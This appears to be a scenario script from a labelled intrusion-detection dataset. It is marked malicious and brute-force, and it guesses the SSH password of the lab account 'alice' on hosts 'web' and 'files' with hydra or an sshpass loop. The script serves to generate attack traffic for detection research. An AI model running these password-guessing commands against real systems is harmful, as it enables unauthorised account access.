# label: malicious
# class: bruteforce
# twin: ssh_forgetful ssh_batch
# tools: hydra sshpass openssh-client openssh-server
# about: Passwords of an account are guessed, by hydra or with the ordinary client.
# command: hydra ssh:// or sshpass ssh
# params: fast net=lan TOOL=hydra TRIES=20 OPTS="-t 5"
# params: slow net=wan TOOL=hydra TRIES=8 OPTS="-t 2" limit=30
# params: client net=office TOOL=ssh TRIES=7 FOUND=1 limit=25
words "$TRIES" >list
# Some guesses are right in the end.
[ -z "${FOUND:-}" ] || echo alice-keeps-7-secrets >>list
if [ "$TOOL" = hydra ]; then
	hydra -I -l alice -P list $OPTS ssh://web
else
	while read -r guess; do
		sshpass -p "$guess" ssh $SSH -o NumberOfPasswordPrompts=1 "alice@$(pick web files)" true </dev/null
		pause 0.1 0.6
	done <list
fi
true
